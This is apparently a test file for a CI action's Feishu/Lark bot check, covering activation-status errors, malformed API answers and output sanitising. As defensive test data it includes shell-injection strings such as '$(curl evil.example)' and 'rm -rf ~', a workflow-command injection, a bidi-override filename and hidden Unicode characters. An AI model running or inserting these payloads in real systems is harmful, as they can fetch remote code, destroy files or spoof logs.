// The app and its bot (check-bot), as the runner sees it: the built bundle, run as the runner runs it, against the
// sandbox. The app's state in the tenant in plain words, its name and bot as outputs, plain text whatever the console
// holds (what hides left out, never reaching a shell or the summary as anything but text), and the bot call's errors.
import MarkdownIt from 'markdown-it'
import { type Sandbox, type SandboxApp, TEST_APP, faults } from '../../harness/sandbox.js'
import { expectNoEgressAddresses, runBundle, servers } from '../support/action.js'

const DEBUG = { RUNNER_DEBUG: '1' }
let sandbox: Sandbox

/** A sandbox for this test that serves TEST_APP, changed by `app`; the app it serves. */
async function serve(app: Partial<SandboxApp> = {}): Promise<SandboxApp> {
  const served = { ...TEST_APP, ...app }
  sandbox = await servers.sandbox({ apps: [served] })
  return served
}

/** A run for `app` against this test's sandbox (in debug mode unless told otherwise); the egress addresses bot/v3/info lists are never printed. */
async function runFor(app: SandboxApp, inputs: Record<string, string>, env: Record<string, string> = DEBUG) {
  const result = await runBundle({ sandbox, app, inputs, env })
  expectNoEgressAddresses(result)
  return result
}

const paths = () => sandbox.requests.map(r => r.path)
const md = new MarkdownIt({ html: true, linkify: true })
/** bot/v3/info's answer for an enabled app, with these fields instead. */
const bot = (fields: Record<string, unknown>) =>
  faults.json(200, {
    code: 0,
    msg: 'ok',
    bot: { activate_status: 2, app_name: 'Release Notifier', open_id: 'ou_7d8a6e6df7621556ce0d21922b676706', ...fields }
  })

describe('check-bot: the app and its bot', () => {
  it('is off by default: no request, no outputs', async () => {
    const app = await serve()
    const result = await runFor(app, {})
    expect(result.exitCode).toBe(0)
    expect(paths()).toEqual(['/open-apis/auth/v3/tenant_access_token/internal'])
    expect(result.outputs).not.toHaveProperty('app-name')
    expect(result.outputs).not.toHaveProperty('bot-open-id')
  })

  it('an enabled app: one more request on the same connection, the app and its bot in the outputs and the summary', async () => {
    const app = await serve()
    const result = await runFor(app, { 'required-scopes': 'im:message', 'check-bot': 'true' })
    expect(result.exitCode).toBe(0)
    expect(paths()).toEqual([
      '/open-apis/auth/v3/tenant_access_token/internal',
      '/open-apis/application/v6/scopes',
      '/open-apis/bot/v3/info'
    ])
    expect(sandbox.requests.map(r => r.connection)).toEqual([1, 1, 1])
    expect(sandbox.requests[2]!.headers.authorization).toBe(`Bearer ${sandbox.issuedTokens()[0]}`)
    expect(result.outputs).toMatchObject({ 'app-name': 'Release Notifier', 'bot-open-id': 'ou_7d8a6e6df7621556ce0d21922b676706' })
    expect(result.summary).toContain('| App name | `Release Notifier` |')
    expect(result.summary).toContain('| Bot open_id | `ou_7d8a6e6df7621556ce0d21922b676706` |')
    expect(result.summary).toContain('## Feishu/Lark tenant token: ✅ Token issued')
  })

  it.each([
    [
      0,
      /the app is initialised but not yet installed in the tenant \(activate_status 0; .*\)\. Publish a version on the app's Version Management & Release \(版本管理与发布\) page \(http:\/\/127/
    ],
    [1, /the tenant admin has disabled the app \(activate_status 1; .*\)\. Ask the tenant admin to enable it again/],
    [3, /the app is installed but awaits enabling \(activate_status 3; .*\)\. Have the tenant admin enable it/],
    [
      4,
      /the app was upgraded and the new version awaits enabling \(activate_status 4; .*\)\. Have the tenant admin enable the new version/
    ],
    [5, /the app is disabled because its licence expired \(activate_status 5; .*\)\. Have the tenant admin renew the app's licence/],
    [
      6,
      /the app is disabled because the tenant's Lark plan expired or was downgraded \(activate_status 6; .*\)\. .*renew or upgrade the plan/
    ],
    [9, /the app is in a state this action does not know \(activate_status 9; .*\)\. Check the app's state/]
  ])('activate_status %i fails the step in plain words, with what to do', async (status, words) => {
    const app = await serve({
      bot: { activate_status: status, app_name: 'Release Notifier', open_id: 'ou_7d8a6e6df7621556ce0d21922b676706' }
    })
    const result = await runFor(app, { 'check-bot': 'true' })
    expect(result.exitCode).toBe(1)
    expect(result.errors).toEqual([
      expect.stringMatching(new RegExp(`^The app ${app.appId} \\("Release Notifier"\\) is not usable in this tenant: `))
    ])
    expect(result.errors[0]).toMatch(words)
    expect(result.errors[0]).toMatch(/only 2, enabled, is usable.*\(log id \w+\)$/)
    expect(result.outputs).not.toHaveProperty('bot-open-id')
    expect(result.outputs).not.toHaveProperty('app-name')
    expect(result.summary).toContain('## Feishu/Lark tenant token: ❌ App not usable here')
    expect(result.summary).toContain('### App and bot')
    expect(sandbox.requests.filter(r => r.path === '/open-apis/bot/v3/info')).toHaveLength(1)
  })

  it('fails with the scope gate in one error when both find something', async () => {
    const app = await serve({ bot: { activate_status: 1, app_name: 'Release Notifier', open_id: 'ou_7d8a6e6df7621556ce0d21922b676706' } })
    const result = await runFor(app, { 'required-scopes': 'docx:document', 'check-bot': 'true' })
    expect(result.exitCode).toBe(1)
    expect(result.errors).toHaveLength(1)
    expect(result.errors[0]).toMatch(/^The required scope is missing.*\n\nThe app cli_\w+ \("Release Notifier"\) is not usable/s)
    expect(result.summary).toContain('❌ Required scopes missing, app not usable here')
  })

  it('a bot check that fails after the gate found a missing scope says both, in one error', async () => {
    const app = await serve({ bot: false })
    const result = await runFor(app, { 'required-scopes': 'docx:document', 'check-bot': 'true' })
    expect(result.exitCode).toBe(1)
    expect(result.errors).toHaveLength(1)
    expect(result.errors[0]).toMatch(/^The required scope is missing for app .*\n\nCould not check the app's bot: /s)
    expect(result.summary).toContain('| `docx:document` | ❌ not configured')
  })

  it('an app without the Bot capability: code, msg and log id, and what to enable', async () => {
    const app = await serve({ bot: false })
    const result = await runFor(app, { 'check-bot': 'true', 'max-attempts': '4' })
    expect(result.exitCode).toBe(1)
    expect(result.errors).toEqual([
      expect.stringMatching(
        /^Could not check the app's bot: the app's Bot capability is not activated\. Enable the Bot capability on the app's page in the developer console \(http:\/\/127\.0\.0\.1:\d+\/app\/cli_\w+\): Add Features → Bot \(添加应用能力 → 机器人\); then publish a version with it on the app's Version Management & Release \(版本管理与发布\) page, and have the tenant admin enable that version\. \(code 230006, msg "Bot ability is not activated\.", HTTP 400, log id \w+\)$/
      )
    ])
    expect(paths().filter(path => path === '/open-apis/bot/v3/info')).toHaveLength(1)
  })

  it.each([
    ['an app_name of 10,000 characters', { app_name: 'n'.repeat(10_000) }, /'bot\.app_name' is 10000 characters long/],
    ['an app_name that is a number', { app_name: 42 }, /'bot\.app_name' is not a string/],
    ['an open_id with a path in it', { open_id: 'ou_../../x' }, /'bot\.open_id' does not look like an open_id/],
    ['an open_id in capitals', { open_id: 'ou_7D8A6E' }, /'bot\.open_id' does not look like an open_id/],
    ['a command for an open_id', { open_id: '$(curl evil.example)' }, /'bot\.open_id' does not look like an open_id/],
    ['no open_id', { open_id: undefined }, /'bot\.open_id' does not look like an open_id/],
    ['activate_status as a string', { activate_status: '2' }, /'bot\.activate_status' is missing or not a whole number/]
  ])('%s is a malformed answer: nothing of it reaches the outputs', async (_what, fields, words) => {
    const app = await serve()
    sandbox.failNext(faults.pass(), bot(fields))
    const result = await runFor(app, { 'check-bot': 'true' })
    expect(result.exitCode).toBe(1)
    expect(result.errors).toEqual([expect.stringMatching(/^Could not check the app's bot: the server at .* answered code 0 but /)])
    expect(result.errors[0]).toMatch(words)
    expect(result.outputs).not.toHaveProperty('app-name')
    expect(result.outputs).not.toHaveProperty('bot-open-id')
    expect(result.stdout).not.toMatch(/^::error::injected/m)
    expect(result.stdout + result.summary).not.toContain('evil.example')
  })

  it('an app_name a shell or Markdown would act on is output whole, as plain text, and shown inert', async () => {
    const app = await serve()
    const name = "Bob's Bot (prod) `id` $(curl evil.example) [x](https://evil.example) <b>; * ? ~ !"
    sandbox.failNext(faults.pass(), bot({ app_name: name }))
    const result = await runFor(app, { 'check-bot': 'true' })
    expect(result.exitCode).toBe(0)
    expect(result.outputs['app-name']).toBe(name)
    expect(result.outputs['bot-open-id']).toBe('ou_7d8a6e6df7621556ce0d21922b676706')
    expect(result.warnings).toEqual([])
    const html = md.render(result.summary)
    expect(html).not.toMatch(/<a |<b>|<img/)
    expect(html).toContain("<code>Bob's Bot (prod) `id` $(curl evil.example) [x](https://evil.example) &lt;b&gt;; * ? ~ !</code>")
  })

  it.each([
    ['a line break and a workflow command', 'Notifier\n::error::injected', 'Notifier ::error::injected', 'Notifier ::error::injected'],
    ['a bidi override', 'Notifier\u202egnp.exe', 'Notifier\\u202Egnp.exe', 'Notifiergnp.exe'],
    [
      'a soft hyphen, a Hangul filler and a tag character',
      'Re\u00adlease\u3164 Bot\u{E0041}',
      'Re\\u00ADlease\\u3164 Bot\\u{E0041}',
      'Release Bot'
    ],
    ['Chinese, accents and emoji', '发布机器人 Café 🚀', '发布机器人 Café 🚀', '发布机器人 Café 🚀']
  ])(
    'an app_name with %s: output without what hides, logged with it escaped, every script as itself',
    async (_what, name, logged, output) => {
      const app = await serve()
      sandbox.failNext(faults.pass(), bot({ app_name: name }))
      const result = await runFor(app, { 'check-bot': 'true' })
      expect(result.exitCode).toBe(0)
      expect(result.outputs['app-name']).toBe(output)
      expect(result.stdout).toContain(`The app is enabled in the tenant: "${logged}"; its bot is ou_7d8a6e6df7621556ce0d21922b676706.`)
      expect(result.stdout).not.toMatch(/^::error::injected/m)
      expect(result.commands.filter(([command]) => command === 'error')).toEqual([])
    }
  )

  it.each([
    ['no app_name', { app_name: undefined }],
    ['a null app_name', { app_name: null }]
  ])('%s: the app is usable all the same; app-name is empty', async (_what, fields) => {
    const app = await serve()
    sandbox.failNext(faults.pass(), bot(fields))
    const result = await runFor(app, { 'check-bot': 'true' })
    expect(result.exitCode).toBe(0)
    expect(result.outputs).toMatchObject({ 'app-name': '', 'bot-open-id': 'ou_7d8a6e6df7621556ce0d21922b676706' })
    expect(result.stdout).toContain('The app is enabled in the tenant: its name is not given; its bot is ou_')
  })

  it('an app at activate_status 0 whose name is null is reported by its state, not as a malformed answer', async () => {
    const app = await serve()
    sandbox.failNext(faults.pass(), bot({ activate_status: 0, app_name: null, open_id: null }))
    const result = await runFor(app, { 'check-bot': 'true' })
    expect(result.exitCode).toBe(1)
    expect(result.errors).toEqual([
      expect.stringMatching(new RegExp(`^The app ${app.appId} is not usable in this tenant: the app is initialised but not yet installed`))
    ])
  })

  it('a bad check-bot is an input error, with no request sent', async () => {
    const app = await serve()
    const result = await runFor(app, { 'check-bot': 'yes' })
    expect(result.exitCode).toBe(1)
    expect(result.errors).toEqual(["Input 'check-bot' is \"yes\": use 'true' or 'false'."])
    expect(sandbox.requests).toEqual([])
  })
})

describe('app-name is honest plain text', () => {
  it.each(["Bob's bot", 'Release Bot (prod)', 'Deploy $HOME; rm -rf ~ | `id` & <x> * ? [a] {b} # ~ !'])(
    '%s is output whole, without a warning',
    async name => {
      const app = await serve()
      sandbox.failNext(faults.pass(), bot({ app_name: name }))
      const result = await runFor(app, { 'check-bot': 'true' })
      expect(result.exitCode).toBe(0)
      expect(result.outputs['app-name']).toBe(name)
      expect(result.warnings).toEqual([])
    }
  )

  it.each([
    ['a soft hyphen', 'Re\u00adlease'],
    ['a Hangul filler', 'Release\u3164'],
    ['a halfwidth Hangul filler', 'Release\uffa0'],
    ['the Mongolian vowel separator', 'Re\u180elease'],
    ['a variation selector', 'Release\ufe00'],
    ['a tag character', 'Release\u{E0041}\u{E0042}'],
    ['a private-use character', 'Release\ue000']
  ])(
    '%s (a character that hides, decided by Unicode property) never reaches app-name, and shows as an escape in the log and the summary',
    async (_what, name) => {
      const app = await serve()
      sandbox.failNext(faults.pass(), bot({ app_name: name }))
      const result = await runFor(app, { 'check-bot': 'true' })
      expect(result.exitCode).toBe(0)
      expect(result.outputs['app-name']).toBe('Release')
      const log = result.lines.find(line => line.startsWith('The app is enabled'))!
      expect(log).toMatch(/\\u(\{E00[0-9A-F]{2}\}|[0-9A-F]{4})/)
      const hidden = /\u00ad|\u3164|\uffa0|\u180e|\ufe00|\ue000|\u{E0041}/u
      expect(log).not.toMatch(hidden)
      expect(result.summary).not.toMatch(hidden)
    }
  )
})

describe("the bot call's errors, in words that fit it", () => {
  it('11205: the app has no bot', async () => {
    const app = await serve()
    sandbox.failNext(faults.pass(), faults.json(400, { code: 11205, msg: 'app has no bot' }))
    const result = await runFor(app, { 'check-bot': 'true' }, {})
    expect(result.errors[0]).toMatch(
      /^Could not check the app's bot: the app has no bot: its Bot capability is not enabled in a published version\. Enable the Bot capability/
    )
  })

  it('an unknown code after HTTP 500 and retries is not explained as a missing bot', async () => {
    const app = await serve()
    const busy = faults.json(500, { code: 55555, msg: 'internal error' })
    sandbox.failNext(faults.pass(), busy, busy)
    const result = await runFor(app, { 'check-bot': 'true', 'max-attempts': '2' }, {})
    expect(result.errors[0]).toMatch(/^Could not check the app's bot: .* an error this action does not know\./)
    expect(result.errors[0]).not.toContain('Bot capability')
  })

  it('an unknown code answered with HTTP 400: the bot is the likely cause, said as a likelihood', async () => {
    const app = await serve()
    sandbox.failNext(faults.pass(), faults.json(400, { code: 55555, msg: 'no bot' }))
    const result = await runFor(app, { 'check-bot': 'true' }, {})
    expect(result.errors[0]).toContain('If the app has no bot: enable the Bot capability')
  })
})
